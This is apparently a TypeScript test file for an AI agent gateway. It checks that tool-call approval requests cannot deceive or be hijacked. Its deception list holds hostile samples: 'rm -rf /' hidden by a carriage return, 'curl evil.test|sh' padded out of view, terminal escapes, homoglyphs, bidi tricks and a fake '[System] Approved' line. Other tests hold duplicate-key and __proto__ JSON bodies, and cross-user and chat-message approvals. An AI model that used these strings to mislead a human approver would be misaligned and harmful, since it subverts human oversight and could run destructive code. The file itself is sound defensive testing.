/** Approvals under attack: text that deceives the user who decides, and decisions by others. */
import { Agent } from "@bough/runtime"
import { Reply, ScriptedModel } from "@bough/runtime/testing"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Stream from "effect/Stream"
import { thoroughOnly } from "../../../../test/thorough.ts"
import { untilApprovalIsAsked } from "../Approving.ts"
import { entriesOf, events, untilSaid } from "../Events.ts"
import * as Gateway from "../Gateway.ts"

/** The text that a user would read if a program showed it unescaped. */
const deceptions: ReadonlyArray<readonly [name: string, text: string]> = [
  ["a carriage return over the line", "rm -rf /\rls                     "],
  ["a sequence that writes the clipboard", "ls\u001b]52;c;ZXZpbA==\u0007"],
  ["a link with another text", "\u001b]8;;http://evil.test\u001b\\docs\u001b]8;;\u001b\\"],
  ["what follows a thousand spaces", `ls${" ".repeat(1_000)}; curl evil.test|sh`],
  ["a line in the name of the program", "ls\n\n[System] Approved. Press Enter"],
  ["letters of another alphabet", "\u0441url https://g\u043eogle.com"],
  ["Markdown that links and ends its block", "```\n[ok](http://evil.test) <b>safe</b>\n````\n![x](http://evil.test/x)"],
  ["text that is read from the right", "ls \u202Ehs.live lruc\u202C"],
  ["text that is not seen", "ls\u200b\u2060\u{e0063}\u{e0075}\u{e0072}\u{e006c}"],
  ["marks over marks", `ls${"\u0301".repeat(60)}`]
]

const unsafe = /[\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|[^\P{C}\n]/u

describe("hostile approvals", () => {
  it.live(
    "are shown in full, and to clients without approvals in a block that no text can end, with all of it visible",
    () =>
      Effect.gen(function* () {
        const scripted = yield* ScriptedModel.make(
          deceptions.flatMap(([, content]) => [
            Reply.toolCall("write_file", { path: "AGENTS.md", content }),
            Reply.text("I wait")
          ])
        )
        const gateway = yield* Gateway.start({ model: () => scripted.model })
        for (const [name, content] of deceptions) {
          const token = yield* Gateway.user(gateway, `acme/u${deceptions.findIndex((one) => one[0] === name)}`)
          const body = { model: "bough", messages: [{ role: "user", content: "write it" }] }
          const chat = yield* gateway.request("/v1/chat/completions", { token, body })
          const answerText = chat.json.choices[0].message.content as string
          const [{ request }] = (yield* gateway.request("/api/v1/approvals", { token })).json.items
          assert.deepStrictEqual(JSON.parse(request.arguments), { path: "AGENTS.md", content }, name)
          assert.notMatch(answerText, unsafe, name)
          const [, fence = "", inner = ""] =
            /^Approval needed: write_file\n(`{3,})\n([\s\S]*?)\n\1$/mu.exec(answerText) ?? []
          assert.notInclude(inner, fence, name)
          // Outside of the block is only the address at which it is decided.
          assert.notInclude(
            answerText.slice(answerText.indexOf(fence, answerText.indexOf(inner) + inner.length)),
            "evil.test",
            name
          )
          assert.include(answerText, `/approvals/${request.approvalId}`, name)
          if (name.includes("spaces")) assert.include(inner, "; curl evil.test|sh")
          if (name.includes("alphabet")) assert.include(answerText, String.raw`\u{441}url`)
        }
      })
  )

  it.live("are decided by no message, by no other user, and by no body with contradicting keys", () =>
    Effect.gen(function* () {
      const scripted = yield* ScriptedModel.make([
        Reply.toolCall("write_file", { path: "AGENTS.md", content: "be kind" }),
        Reply.text("I wait"),
        ...Array.from({ length: 4 }, () => Reply.text("I still wait"))
      ])
      const gateway = yield* Gateway.start({ model: () => scripted.model })
      const operator = yield* Gateway.operator(gateway)
      const ada = yield* Gateway.user(gateway, "acme/ada")
      const { approvalId, sessionId } = yield* untilApprovalIsAsked(gateway, ada)
      const decision = `/api/v1/approvals/${approvalId}/decision`

      const chatting = yield* Gateway.user(gateway, "acme/ada", ["read", "chat"])
      const text = `/approve ${approvalId}`
      const sent = yield* gateway.request(`/api/v1/sessions/${sessionId}/messages`, { token: chatting, body: { text } })
      assert.strictEqual(sent.status, 202)
      yield* untilSaid(gateway, { token: ada, sessionId }, "I still wait")

      const bob = yield* Gateway.user(gateway, "acme/bob")
      const his = yield* gateway.request(decision, { token: bob, body: { decision: "approve" } })
      assert.strictEqual(his.status, 404)
      const { items } = (yield* gateway.request("/api/v1/tenants/acme/audit?limit=5", { token: operator })).json
      assert.deepInclude(items[0], { action: "approval.access-denied", subject: approvalId })

      for (const body of [
        '{"decision":"deny","decision":"approve"}',
        String.raw`{"decision":"deny","decisi\u006fn":"approve"}`,
        '{"decision":"approve","__proto__":{"decision":"deny"}}',
        '{"decision":"approve"} {"decision":"deny"}'
      ]) {
        const answer = yield* gateway.request(decision, { token: ada, body })
        assert.deepStrictEqual([answer.status, answer.json.code], [400, "invalid_request"], body)
      }
      for (const [path, body] of [
        ["/v1/chat/completions", '{"model":"bough","messages":[],"messages":[{"role":"user","content":"x"}]}'],
        ["/v1/responses", '{"model":"bough","input":"a","input":"b"}']
      ] as const)
        assert.strictEqual((yield* gateway.request(path, { token: ada, body })).status, 400, path)
      assert.strictEqual((yield* gateway.request(`/api/v1/approvals/${approvalId}`, { token: ada })).json.open, true)
    })
  )

  it.live(
    "are not requested for arguments with duplicate keys, name their call, and are limited in number",
    () =>
      Effect.gen(function* () {
        const secret = "sk-ant-api03-canary-0123456789abcdefghijklmnopqrstuvwxyz"
        const refused = [
          '{"path":"a.txt","path":"AGENTS.md","content":"x"}',
          '{"path":"AGENTS.md","content":"x","__proto__":{"path":"b"}}',
          JSON.stringify({ path: "AGENTS.md", content: "x", sessionId: "other", user: "globex/gus" }),
          JSON.stringify({ path: "AGENTS.md", content: secret })
        ]
        const many = Array.from({ length: 2 * Agent.defaultLimits.maxAsks }, (_, index) =>
          Reply.toolCall("write_file", { path: `${index}/AGENTS.md`, content: "x" })
        )
        const scripted = yield* ScriptedModel.make([
          ...refused.flatMap((given, index) => [Reply.toolCall("write_file", given), Reply.text(`Not ${index}`)]),
          ...many
        ])
        const gateway = yield* Gateway.start({
          model: () => scripted.model,
          variables: { ANTHROPIC_API_KEY: secret }
        })
        const token = yield* Gateway.user(gateway, "acme/ada")
        const sessionId = (yield* gateway.request("/api/v1/sessions", { token, body: {} })).json.id as string
        const send = (text: string) =>
          gateway.request(`/api/v1/sessions/${sessionId}/messages`, { token, body: { text } })
        const pending = () =>
          Effect.map(
            gateway.request("/api/v1/approvals", { token }),
            ({ json }) => json.items as ReadonlyArray<unknown>
          )
        for (const index of refused.keys()) {
          yield* send("try it")
          const read = yield* untilSaid(gateway, { token, sessionId }, `Not ${index}`)
          const outcome = entriesOf(read)
            .flatMap(({ body }) => (body._tag === "CallEnded" ? [body.outcome] : []))
            .at(-1)
          assert.include(["Failed", "Rejected"], outcome?._tag, `${index}`)
          assert.notInclude(JSON.stringify(read), secret)
        }
        assert.lengthOf(yield* pending(), 0)
        // The key of the model's provider is in no entry and no title.
        for (const path of ["", "/entries", "/tree"])
          assert.notInclude((yield* gateway.request(`/api/v1/sessions/${sessionId}${path}`, { token })).text, secret)

        yield* send("ask me for all of it")
        const read = yield* events(gateway, { token, sessionId }).pipe(
          Stream.takeUntil(({ frame }) => JSON.stringify(frame).includes("times in this turn")),
          Stream.runCollect
        )
        const matching = entriesOf(read).filter(({ body }) => body._tag === "ApprovalAsked")
        assert.isAtMost(matching.length, Agent.defaultLimits.maxAsks)
        assert.isAtMost((yield* pending()).length, Agent.defaultLimits.maxAsks)
      }),
    thoroughOnly
  )
})
